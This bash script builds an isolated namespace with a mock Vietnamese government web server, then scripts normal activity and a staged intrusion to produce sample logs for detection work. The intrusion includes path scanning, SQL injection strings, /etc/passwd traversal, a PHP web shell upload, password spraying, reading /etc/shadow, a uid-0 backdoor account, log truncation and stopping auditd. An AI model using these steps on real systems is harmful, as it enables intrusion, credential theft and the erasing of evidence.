#!/bin/bash
# Records demo/attack: sshd, sudo, shadow-utils, nginx, rsyslog and auditd, attacked on the loopback interface of a network
# namespace whose addresses are those reserved for documentation. /etc, /var/log, /run, /home and /dev are private to the
# mount namespace, so users and files made here are gone when it ends. Needs root, and takes over the kernel's audit
# (one per machine): refuses to run where audit is in use. Usage: record.sh OUTPUT_FOLDER
set -eu
here=$(cd "$(dirname "$0")" && pwd)
out=$(mkdir -p "$1" && cd "$1" && pwd)
if [ "${RECORDING:-}" != inside ]; then
  [ "$(auditctl -s | awk '$1 == "enabled" {print $2}')" = 0 ] || { echo 'audit is in use on this machine' >&2; exit 1; }
  RECORDING=inside unshare --net --uts --mount "$0" "$out"
  exit
fi

# --- a small machine of its own -----------------------------------------------------------------------------------------
hostname motcua-web01
ip link set lo up
for address in 192.0.2.10 192.0.2.20 198.51.100.77 203.0.113.45 203.0.113.9; do ip address add "$address/32" dev lo; done
mkdir -p /tmp/recording && mount -t tmpfs recording /tmp/recording && cd /tmp/recording
mkdir etc work dev
mount -t overlay overlay -o lowerdir=/etc,upperdir=etc,workdir=work /etc
for file in null zero urandom random tty full; do touch "dev/$file" && mount --bind "/dev/$file" "dev/$file"; done
mkdir dev/pts dev/shm && mount --bind /dev/pts dev/pts && ln -s pts/ptmx dev/ptmx && ln -s /proc/self/fd dev/fd
mount --rbind dev /dev
for folder in /var/log /run /home /var/mail; do mount -t tmpfs private "$folder"; done
mkdir -p /run/sshd /run/recording /run/sudo /var/log/nginx /var/log/out /var/log/audit
ln -sf /usr/share/zoneinfo/Asia/Ho_Chi_Minh /etc/localtime
printf '127.0.0.1 localhost\n192.0.2.10 motcua-web01\n' > /etc/hosts
touch /var/log/auth.log /var/log/lastlog /var/log/wtmp /var/log/btmp && chmod 600 /var/log/btmp
sed -i '/pam_limits\|pam_motd\|user_readenv/d' /etc/pam.d/sshd /etc/pam.d/sudo # what they log here is about the recording machine
ssh-keygen -q -t ed25519 -N '' -f /run/recording/host_key
useradd -m -s /bin/bash -u 2001 hientt && echo 'hientt:Thu-Tuc_2026!x' | chpasswd
useradd -m -s /bin/bash -u 2002 -G sudo baotri && echo 'baotri:baotri@123' | chpasswd

started=()
finish() {
  auditctl -D > /dev/null; auditctl -e 0 > /dev/null
  for process in "${started[@]}" $(cat /run/auditd.pid /run/nginx.pid /run/sshd.pid 2> /dev/null); do kill "$process" 2> /dev/null || true; done
}
trap finish EXIT

rsyslogd -n -f "$here/rsyslog.conf" -i /run/rsyslogd.pid & started+=($!)
until [ -S /dev/log ]; do sleep 0.1; done
sed -i 's/^active = no/active = yes/' /etc/audit/plugins.d/syslog.conf
auditd
auditctl -e 1 > /dev/null
for type in PROCTITLE BPRM_FCAPS CWD PATH EOE; do auditctl -a always,exclude -F "msgtype=$type"; done
auditctl -a always,exit -F arch=b64 -S execve -F euid=33 -k web_server_exec
auditctl -a always,exit -F arch=b64 -S execve -F auid=2002 -F euid=0 -k root_by_user
cp "$here/victim.py" /run/recording/ && mkdir -m 777 /run/recording/app
APP_LOG=/run/recording/app/motcua.ndjson setpriv --reuid www-data --regid www-data --init-groups /usr/bin/python3 /run/recording/victim.py & started+=($!)
/usr/sbin/nginx -c "$here/nginx.conf"
/usr/sbin/sshd -f "$here/sshd_config"
sleep 2

# --- who does what --------------------------------------------------------------------------------------------------------
login() { # address user password [command]
  printf '#!/bin/sh\necho "%s"\n' "$3" > /run/recording/askpass && chmod 700 /run/recording/askpass
  SSH_ASKPASS=/run/recording/askpass SSH_ASKPASS_REQUIRE=force ssh -F none -b "$1" -o PubkeyAuthentication=no -o LogLevel=ERROR \
    -o NumberOfPasswordPrompts=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$2@192.0.2.10" "${4:-true}" < /dev/null || true
}
BROWSER='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36'
get() { # address agent path
  curl -s -o /dev/null --interface "$1" -A "$2" "http://192.0.2.10$3" || true
}

echo 'ordinary work'
login 192.0.2.20 hientt 'Thu-Tuc_2026!x' 'uptime > /dev/null'
for path in / /tin-tuc/ /thu-tuc/dat-dai '/tra-cuu?mahoso=26112207' /khong-co; do get 192.0.2.20 "$BROWSER" "$path"; sleep 0.3; done
login 192.0.2.20 hientt 'Thu-Tuc_2026!y'
login 192.0.2.20 hientt 'Thu-Tuc_2026!x' 'uptime > /dev/null'
for dossier in 26112201 26112214 26112233; do get 192.0.2.20 "$BROWSER" "/api/hoso/$dossier?user=hientt"; sleep 0.5; done

echo 'scan and injection'
for name in admin backup .env .git/config wp-login.php phpmyadmin old test config.php db.sql shell.php api console manager/html actuator .svn/entries \
  web.config server-status cgi-bin/test install login.aspx upload.aspx id_rsa dump.sql site.zip backup.tar.gz .aws/credentials xmlrpc.php setup.php info.php \
  phpinfo.php admin.php administrator user portal static/x.js robots.bak .DS_Store web.zip data.mdb logs; do
  get 203.0.113.45 'Mozilla/5.0 (compatible; Nikto/2.5.0)' "/$name"
done
get 203.0.113.45 'sqlmap/1.8.4#stable (https://sqlmap.org)' '/tra-cuu?mahoso=1%27'
get 203.0.113.45 'sqlmap/1.8.4#stable (https://sqlmap.org)' '/tra-cuu?mahoso=-1%20UNION%20ALL%20SELECT%20name,sql,1%20FROM%20sqlite_master--'
get 203.0.113.45 "$BROWSER" '/tra-cuu?mahoso=-1%20union%20select%20id,ten,trangthai%20from%20hoso--'
curl -s -o /dev/null --interface 203.0.113.45 -A "$BROWSER" --path-as-is 'http://192.0.2.10/static/..%2f..%2f..%2f..%2fetc%2fpasswd' || true

echo 'web shell'
curl -s -o /dev/null --interface 203.0.113.45 -A "$BROWSER" --data-binary '<?php system($_GET["cmd"]);' 'http://192.0.2.10/uploads/luu?name=anh-ho-so.php'
sleep 1
for command in id uname 'cat%20/etc/passwd'; do get 203.0.113.45 "$BROWSER" "/uploads/anh-ho-so.php?cmd=$command"; sleep 1; done

echo 'gambling page for the search engine'
get 203.0.113.9 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' '/tin-tuc/no-hu-doi-thuong-bong88.html'
get 203.0.113.9 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' '/tin-tuc/?q=n%E1%BB%95%20h%C5%A9%20t%C3%A0i%20x%E1%BB%89u%20c%C3%A1%20c%C6%B0%E1%BB%A3c'

echo 'password spraying, brute force, success'
for user in admin oracle postgres hientt ketoan vanthu motcua; do login 198.51.100.77 "$user" 'Haiduong@2026'; done
for password in 123456 123456a@ admin@123 baotri baotri123 Baotri@2025 baotri@1 P@ssw0rd baotri@2026 baotri@1234 abc@123 baotri#123; do
  login 203.0.113.45 baotri "$password"
done
login 203.0.113.45 baotri 'baotri@123' 'id > /dev/null'

echo 'sudo, account, traces'
login 203.0.113.45 baotri 'baotri@123' '
  printf "sai1\nsai2\nsai3\n" | sudo -S -p "" cat /etc/shadow > /dev/null 2>&1
  sleep 1
  echo "baotri@123" | sudo -S -p "" cat /etc/shadow > /dev/null
  sudo useradd -m -s /bin/bash svc_update
  sudo usermod -aG sudo svc_update
  sudo useradd -o -u 0 -M -s /usr/sbin/nologin sys_upd
  sudo truncate -s 0 /var/log/auth.log
  sleep 1'
for n in $(seq 26112200 26112259); do get 203.0.113.45 "$BROWSER" "/api/hoso/$n?user=baotri"; done
login 203.0.113.45 baotri 'baotri@123' 'echo "baotri@123" | sudo -S -p "" service auditd stop > /dev/null 2>&1; sleep 2'
sleep 2

# --- what was recorded ------------------------------------------------------------------------------------------------------
cp /var/log/out/nginx.log "$out/"
grep -v 'rsyslogd - - -\|Unable to adjust out of memory' /var/log/out/auth.log > "$out/auth.log"
grep -v 'type=DAEMON_START' /var/log/out/auditd.log > "$out/auditd.log" # names the kernel of the recording machine
cp /run/recording/app/motcua.ndjson "$out/"
echo "$(wc -l < "$out/auth.log") auth, $(wc -l < "$out/nginx.log") nginx, $(wc -l < "$out/auditd.log") auditd, $(wc -l < "$out/motcua.ndjson") application lines"
